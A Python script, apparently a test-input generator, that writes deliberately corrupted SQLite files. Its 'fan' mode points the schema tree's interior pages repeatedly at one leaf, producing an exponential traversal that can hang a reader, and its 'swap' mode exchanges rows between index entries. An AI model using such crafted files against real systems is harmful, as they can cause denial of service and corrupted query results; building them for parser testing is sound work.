"""crafted.py KIND LIBRARY OUT - a library whose pages were made to do harm, in the format of SQLite files (sqlite.org/fileformat.html).

fan: its table of tables leads to one leaf along 400^6 ways; the leaf says what stands there already, which SQLite takes any number of times.
swap: in the index of ids the first two cases have one another's rows."""
import sqlite3, struct, sys

kind, library, out = sys.argv[1:]
pages = bytearray(open(library, "rb").read())
size = struct.unpack_from(">H", pages, 16)[0]
database = sqlite3.connect(library)


def root_of(name):
    return database.execute("SELECT rootpage FROM sqlite_schema WHERE name = ?", (name,)).fetchone()[0]


def page_add(page):
    pages.extend(page)
    return len(pages) // size


def interior(children, right, at=0):
    page = bytearray(size)
    page[at] = 5
    start = size
    for i, child in enumerate(children):
        start -= 5
        page[start:start + 5] = struct.pack(">IB", child, 120)
        struct.pack_into(">H", page, at + 12 + 2 * i, start)
    struct.pack_into(">HHH", page, at + 3, len(children), start, 0)
    struct.pack_into(">I", page, at + 8, right)
    return page


def leaf(record):
    page = bytearray(size)
    cell = bytes([len(record), 120]) + record
    page[0] = 13
    struct.pack_into(">HHH", page, 3, 1, size - len(cell), 0)
    struct.pack_into(">H", page, 8, size - len(cell))
    page[size - len(cell):] = cell
    return page


def fan():
    texts = [b"index", b"sqlite_autoindex_cases_1", b"cases"]
    record = bytes([6] + [13 + 2 * len(t) for t in texts] + [2, 0]) + b"".join(texts) + struct.pack(">H", root_of(texts[1].decode()))
    at = page_add(leaf(record))
    for _ in range(6):
        at = page_add(interior([at] * min(400, (size - 12) // 8), at))
    assert pages[100] == 13, "the first page was a leaf"
    count, start = struct.unpack_from(">HH", pages, 103)
    old = bytearray(size)
    old[0:8] = pages[100:108]
    old[8:8 + 2 * count] = pages[108:108 + 2 * count]
    old[start:] = pages[start:size]
    first = interior([page_add(old)], at, 100)
    pages[100:size] = first[100:]
    struct.pack_into(">I", pages, 28, len(pages) // size)
    pages[92:96] = pages[24:28]


def swap():
    at = (root_of("sqlite_autoindex_summaries_1") - 1) * size
    (one, first), (two, second) = database.execute('SELECT id, "row" FROM summaries ORDER BY "row" LIMIT 2 OFFSET 1').fetchall()
    for name, row in (one.encode(), second), (two.encode(), first):
        where = pages.index(name, at, at + size)
        pages[where + len(name)] = row


{"fan": fan, "swap": swap}[kind]()
open(out, "wb").write(pages)
